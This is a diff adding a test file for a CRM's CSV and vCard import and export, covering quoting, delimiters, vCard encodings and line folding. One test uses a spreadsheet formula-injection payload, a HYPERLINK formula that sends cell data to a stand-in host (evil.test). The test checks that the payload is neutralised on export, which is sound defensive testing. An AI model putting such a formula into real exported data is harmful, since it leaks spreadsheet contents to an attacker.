@@ -1,0 +1,235 @@
+// Contacts in and out of Rapport: CSV (delimiters, quotes, formulas written as text) and vCard
+// (2.1 quoted-printable, 3.0/4.0, folding by UTF-8 octets), and what an import skips and why.
+import { describe, expect, it } from 'vitest'
+import { parseCsv, toCsv } from '../../src-main/core/crm/csv'
+import { parseVCards, writeVCards } from '../../src-main/core/crm/vcard'
+import { addr, crmWorkspace } from './fixtures/crm-workspace'
+
+describe('CSV and vCard', () => {
+  it('parses quoted CSV fields with commas, quotes and line breaks, and writes them back', () => {
+    const rows = [
+      ['name', 'note'],
+      ['Mendes, Carlos', 'said "hi"\nthen left'],
+      ['=cmd', '']
+    ]
+    expect(parseCsv(toCsv(rows))).toEqual(rows)
+  })
+
+  it("writes formulas as text (a leading ') for spreadsheets, and reads them back as they were", () => {
+    const values = ['=1+1', '+62811', '-5', '@SUM(A1)', '\tx', '\r=x', "'=quoted", "'plain", 'a=b']
+    const written = toCsv([values])
+    expect(written).toBe(`'=1+1,'+62811,'-5,'@SUM(A1),'\tx,"'\r=x",''=quoted,'plain,a=b\r\n`)
+    expect(parseCsv(`x,${written}`)).toEqual([['x', ...values]])
+    const ws = crmWorkspace()
+    ws.crm.contacts.create(
+      {
+        displayName: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+        company: '@SUM(1+1)',
+        emails: ['x@y.test'],
+        phones: ['+62 811']
+      },
+      null
+    )
+    const csv = ws.crm.io.export('csv')
+    expect(csv.split('\r\n')[1]).toBe(
+      `,,"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",x@y.test,'+62811,'@SUM(1+1),,,,`
+    )
+    const other = crmWorkspace()
+    other.crm.io.import('csv', csv, null)
+    expect(other.crm.contacts.byEmail('x@y.test')).toMatchObject({
+      displayName: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+      company: '@SUM(1+1)',
+      phones: ['+62811']
+    })
+  })
+
+  it('reads a quote inside a field as a character, and refuses a file that ends inside quotes', () => {
+    const ws = crmWorkspace()
+    const csv =
+      'first_name,company,emails\r\nAna,Acme 5" Displays,ana@x.test\r\nBudi,"B, Ltd",budi@x.test\r\n'
+    expect(parseCsv(csv)).toEqual([
+      ['first_name', 'company', 'emails'],
+      ['Ana', 'Acme 5" Displays', 'ana@x.test'],
+      ['Budi', 'B, Ltd', 'budi@x.test']
+    ])
+    expect(ws.crm.io.import('csv', csv, null)).toMatchObject({ created: 2 })
+    expect(() =>
+      ws.crm.io.import('csv', 'first_name,company\r\nCici,C\r\nDodi,"D, Ltd\r\nEka,E\r\n', null)
+    ).toThrow(expect.objectContaining({ code: 'INVALID_INPUT', message: expect.stringMatching(/line 3/) }))
+    expect(ws.crm.contacts.list({ limit: 10 })).toHaveLength(2)
+  })
+
+  it('reads the delimiter from the header line: semicolons (Excel in Europe) and tabs too', () => {
+    const ws = crmWorkspace()
+    const semicolons =
+      '\uFEFFfirst_name;last_name;company;emails\r\nJosé;Núñez;"Núñez; Hijos, S.A.";jose@x.test\r\n'
+    expect(ws.crm.io.import('csv', semicolons, null)).toMatchObject({ created: 1 })
+    expect(ws.crm.contacts.byEmail('jose@x.test')).toMatchObject({
+      firstName: 'José',
+      lastName: 'Núñez',
+      company: 'Núñez; Hijos, S.A.'
+    })
+    expect(parseCsv('first_name\temails\nSiti, the second\tsiti@x.test\n')).toEqual([
+      ['first_name', 'emails'],
+      ['Siti, the second', 'siti@x.test']
+    ])
+  })
+
+  it('imports the address of “Name <address>”, and skips rows with an invalid email, saying why', () => {
+    const ws = crmWorkspace()
+    const csv = [
+      'first_name,emails,company',
+      'Carlos,Carlos Mendes <Carlos@Client.test>,Mendes Ltd',
+      'Budi,not-an-email; budi@x.test,',
+      ',,',
+      'Siti,,',
+      ',,Only a company'
+    ].join('\r\n')
+    expect(ws.crm.io.import('csv', csv, null)).toEqual({
+      created: 2,
+      updated: 0,
+      skipped: 2,
+      problems: ['Row 3: "not-an-email" is not an email address.', 'Row 6: no name, email or phone.']
+    })
+    expect(ws.crm.contacts.byEmail('carlos@client.test')).toMatchObject({ firstName: 'Carlos' })
+    // Mail from that address finds the imported contact instead of making a second one.
+    const { conversationId } = ws.receive({ from: addr('carlos@client.test', 'Carlos') })
+    expect(ws.conversation(conversationId).contact_id).toBe(ws.crm.contacts.byEmail('carlos@client.test')!.id)
+    expect(ws.crm.contacts.list({ limit: 10 })).toHaveLength(2)
+    const card = 'BEGIN:VCARD\nVERSION:3.0\nFN:X\nEMAIL:x@\nEND:VCARD\n'
+    expect(ws.crm.io.import('vcard', card, null).problems).toEqual(['Card 1: "x@" is not an email address.'])
+  })
+
+  it('round-trips contacts through CSV export and import, updating known emails instead of duplicating', () => {
+    const ws = crmWorkspace()
+    ws.crm.contacts.defineField({ key: 'seats', label: 'Seats', type: 'number' })
+    ws.crm.contacts.create(
+      {
+        firstName: 'Dewi',
+        lastName: 'L',
+        emails: ['dewi@client.test'],
+        phones: ['+62 811'],
+        tags: ['vip'],
+        customFields: { seats: 3 }
+      },
+      null
+    )
+    const csv = ws.crm.io.export('csv')
+    expect(csv.split('\r\n')[0]).toBe(
+      'first_name,last_name,display_name,emails,phones,company,country,language,owner,tags,custom:seats'
+    )
+    const other = crmWorkspace()
+    other.crm.contacts.defineField({ key: 'seats', label: 'Seats', type: 'number' })
+    expect(other.crm.io.import('csv', csv, null)).toEqual({
+      created: 1,
+      updated: 0,
+      skipped: 0,
+      problems: []
+    })
+    expect(other.crm.io.import('csv', csv, null)).toEqual({
+      created: 0,
+      updated: 1,
+      skipped: 0,
+      problems: []
+    })
+    expect(other.crm.contacts.byEmail('dewi@client.test')).toMatchObject({
+      firstName: 'Dewi',
+      phones: ['+62811'],
+      tags: ['vip'],
+      customFields: { seats: 3 }
+    })
+  })
+
+  it('reads vCard 3.0 and 4.0, with folded lines and escapes, and writes 4.0', () => {
+    const v3 = [
+      'BEGIN:VCARD',
+      'VERSION:3.0',
+      'FN:Carlos Mendes',
+      'N:Mendes;Carlos;;;',
+      'EMAIL;TYPE=INTERNET,WORK:carlos@client.test',
+      'TEL;TYPE=CELL:+55 11 9999',
+      'ORG:Mendes\\, Ltd;Sales',
+      'ADR;TYPE=WORK:;;Rua 1;São Paulo;;;Brazil',
+      'CATEGORIES:vip,latam',
+      'NOTE:a long note that is folded over',
+      '  two lines',
+      'END:VCARD'
+    ].join('\r\n')
+    const [person] = parseVCards(v3)
+    expect(person).toMatchObject({
+      fullName: 'Carlos Mendes',
+      firstName: 'Carlos',
+      lastName: 'Mendes',
+      emails: ['carlos@client.test'],
+      phones: ['+55 11 9999'],
+      company: 'Mendes, Ltd',
+      country: 'Brazil',
+      tags: ['vip', 'latam']
+    })
+    const written = writeVCards([{ ...person!, language: 'pt', extra: { tier: 'gold;plus' } }])
+    expect(written).toContain('VERSION:4.0')
+    expect(written).toContain('LANG:pt')
+    expect(parseVCards(written)[0]).toMatchObject({
+      company: 'Mendes, Ltd',
+      language: 'pt',
+      extra: { tier: 'gold;plus' }
+    })
+  })
+
+  it('reads vCard 2.1 quoted-printable values, in their charset, over soft line breaks', () => {
+    const v21 = [
+      'BEGIN:VCARD',
+      'VERSION:2.1',
+      'N;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:N=C3=BA=C3=B1ez;Jos=C3=A9;;;',
+      'FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:Jos=C3=A9 N=C3=BA=C3=B1ez =F0=9F=98=80 Garc=',
+      '=C3=ADa',
+      'ORG;CHARSET=ISO-8859-1;QUOTED-PRINTABLE:Caf=E9 M=FCller',
+      'EMAIL;INTERNET:jose@x.test',
+      'END:VCARD'
+    ].join('\r\n')
+    expect(parseVCards(v21)).toMatchObject([
+      {
+        fullName: 'José Núñez 😀 García',
+        firstName: 'José',
+        lastName: 'Núñez',
+        company: 'Café Müller',
+        emails: ['jose@x.test']
+      }
+    ])
+  })
+
+  it('folds long vCard lines at 75 octets between characters, never inside an emoji', () => {
+    for (let n = 60; n < 80; n++) {
+      const fullName = `${'a'.repeat(n)}😀é😀😀`
+      const person = {
+        fullName,
+        firstName: '',
+        lastName: '',
+        emails: [],
+        phones: [],
+        company: '',
+        country: '',
+        language: '',
+        tags: [],
+        extra: {}
+      }
+      // As a file on disk: UTF-8, where a lone surrogate becomes U+FFFD.
+      const file = Buffer.from(writeVCards([person]), 'utf8')
+      const lines = file.toString('utf8').split('\r\n')
+      expect(lines.filter((l) => Buffer.byteLength(l) > 75)).toEqual([])
+      expect(parseVCards(file.toString('utf8'))[0]!.fullName).toBe(fullName)
+    }
+  })
+
+  it('imports a vCard file into contacts and exports them again', () => {
+    const ws = crmWorkspace()
+    const card = 'BEGIN:VCARD\nVERSION:4.0\nFN:Siti\nN:;Siti;;;\nEMAIL:siti@client.test\nEND:VCARD\n'
+    expect(ws.crm.io.import('vcard', card, null)).toEqual({
+      created: 1,
+      updated: 0,
+      skipped: 0,
+      problems: []
+    })
+    expect(ws.crm.io.export('vcard')).toContain('EMAIL:siti@client.test')
+  })
+})
